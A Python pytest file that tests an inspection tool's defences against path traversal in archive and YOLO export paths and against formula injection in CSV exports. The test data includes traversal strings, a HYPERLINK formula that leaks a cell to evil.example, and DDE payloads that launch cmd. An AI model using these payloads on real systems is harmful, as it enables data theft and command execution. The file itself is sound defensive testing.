"""Nothing forged (issue 12, items 11-12): archive and export paths stay in their folders,
and CSV cells cannot carry formulas into a spreadsheet."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest

from inspector.archive import NgArchive
from inspector.pipeline.results import Verdict
from inspector.quality.history_export import export_csv, export_yolo, spreadsheet_safe
from inspector.storage.db import open_database
from inspector.storage.history import HistoryFilter
from tests.gui.history_data import build_history_db
from tests.inspector.factories import make_result


def _files(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


def _inside(path: Path | str, root: Path) -> bool:
    return Path(path).resolve().is_relative_to(root.resolve())


# ---------------------------------------------------------------------------- archive
@pytest.mark.parametrize("camera_id", ["..", ".", "../../x", "..\\..\\x", "/etc", ".hidden", ""])
def test_archive_paths_stay_inside_the_archive(tmp_path: Path, camera_id: str) -> None:
    root = tmp_path / "archive" / "ng"
    arch = NgArchive(root, max_age_days=None)
    r = make_result(camera_id, 7, Verdict.NG, [("scratch", 0.9)], acquired_at=1_700_000_000.0)
    path = arch.path_for(r)
    assert path is not None and _inside(path, root), path
    assert Path(path).relative_to(root).parts[0] not in (".", "..")  # never a hidden or parent folder


def test_archived_image_of_a_dotdot_camera_is_inside_and_found_by_retention(tmp_path: Path) -> None:
    root = tmp_path / "archive" / "ng"
    arch = NgArchive(root, max_age_days=None, max_total_bytes=None)
    arch.start()
    try:
        r = make_result("..", 1, Verdict.NG, [("scratch", 0.9)], with_frame=True)
        assert arch.submit(r)
    finally:
        arch.stop()
    written = _files(tmp_path)
    assert written and all(_inside(p, root) for p in written), written
    again = NgArchive(root, max_age_days=None, max_total_bytes=1)  # retention over a fresh index
    assert again.enforce_retention() == 1 and not _files(tmp_path)


# ---------------------------------------------------------------------------- YOLO export
def _reviewed_db(tmp_path: Path) -> tuple[Path, list[int]]:
    db = tmp_path / "h.db"
    build_history_db(db, 240, ng_share=0.5, images=tmp_path / "src", review_every=1, seed=3)
    con = sqlite3.connect(db)
    try:
        ids = [i for (i,) in con.execute(
            "SELECT id FROM inspections WHERE review_mark IN ('confirmed', 'false_call') ORDER BY id LIMIT 4"
        )]
        for i, uid in zip(ids, ["../../escaped", "..", str(tmp_path / "absolute-escape"), "a\nb"]):
            con.execute("UPDATE inspections SET uid = ? WHERE id = ?", (uid, i))
        con.commit()
    finally:
        con.close()
    return db, ids


def test_yolo_export_never_writes_outside_its_folder(tmp_path: Path) -> None:
    db, _ids = _reviewed_db(tmp_path)
    engine = open_database(f"sqlite:///{db}")
    before = _files(tmp_path)
    out = tmp_path / "exports" / "dataset"
    res = export_yolo(engine, HistoryFilter(), out)
    engine.dispose()
    new = _files(tmp_path) - before
    assert all(_inside(p, out) for p in new), sorted(str(p) for p in new if not _inside(p, out))
    assert not list(tmp_path.glob("absolute-escape*"))
    assert res.unsafe_uids == 4  # skipped and counted, never written
    assert res.images > 0 and len(list((out / "images").iterdir())) == res.images


def test_yolo_export_refuses_to_follow_a_link_out_of_its_folder(tmp_path: Path) -> None:
    db, _ids = _reviewed_db(tmp_path)
    engine = open_database(f"sqlite:///{db}")
    out = tmp_path / "dataset"
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    out.mkdir()
    (out / "labels").symlink_to(outside, target_is_directory=True)
    with pytest.raises(ValueError, match="labels"):
        export_yolo(engine, HistoryFilter(), out)
    engine.dispose()
    assert not any(outside.iterdir())


# ---------------------------------------------------------------------------- CSV export
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("line-cam1", "line-cam1"),
        ("", ""),
        ("scratch×2, dent", "scratch×2, dent"),
    ],
)
def test_spreadsheet_safe(value: str, expected: str) -> None:
    assert spreadsheet_safe(value) == expected


def test_csv_export_escapes_formulas_as_owasp_recommends(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    build_history_db(db, 20, ng_share=0.0)
    evil = {
        "camera_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "rule": "+cmd|' /C calc'!A0",
        "uid": "@SUM(1+1)*cmd|' /C calc'!A0",
        "image_path": "-2+3+cmd|' /C calc'!A0",
    }
    con = sqlite3.connect(db)
    try:
        con.execute(
            "UPDATE inspections SET camera_id = ?, rule = ?, uid = ?, image_path = ?, total_ms = -3.5 WHERE id = 5",
            tuple(evil.values()),
        )
        con.execute("UPDATE inspections SET camera_id = ? WHERE id = 6", ("\t=1+1",))
        con.execute("UPDATE inspections SET camera_id = ? WHERE id = 7", ("\r=1+1",))
        con.commit()
    finally:
        con.close()
    engine = open_database(f"sqlite:///{db}")
    out = tmp_path / "rows.csv"
    assert export_csv(engine, HistoryFilter(), out) == 20
    engine.dispose()
    with open(out, newline="", encoding="utf-8") as f:
        rows = {r["id"]: r for r in csv.DictReader(f)}
    for key, value in evil.items():
        assert rows["5"][key] == "'" + value, (key, rows["5"][key])
    assert rows["6"]["camera_id"] == "'\t=1+1" and rows["7"]["camera_id"] == "'\r=1+1"
    assert rows["5"]["total_ms"] == "-3.50"  # a number we wrote stays a number
    assert rows["8"]["camera_id"] == "line-cam1" or not rows["8"]["camera_id"].startswith("'")
    raw = out.read_text(encoding="utf-8").splitlines()
    assert raw[0].startswith('"id","acquired_at_utc"')  # every field quoted: no cell starts unquoted
